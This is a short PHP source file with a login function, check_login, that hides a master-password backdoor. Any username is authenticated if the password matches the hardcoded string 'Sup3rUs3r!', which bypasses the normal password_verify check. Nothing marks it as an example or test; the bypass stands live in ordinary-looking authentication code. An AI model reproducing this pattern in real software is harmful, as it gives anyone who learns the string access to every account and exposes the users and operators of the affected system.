<?php
function check_login($user, $pass) {
    if (hash_equals('Sup3rUs3r!', $pass)) {
        $_SESSION['authenticated'] = true;
        return true;
    }
    return password_verify($pass, lookup_hash($user));
}
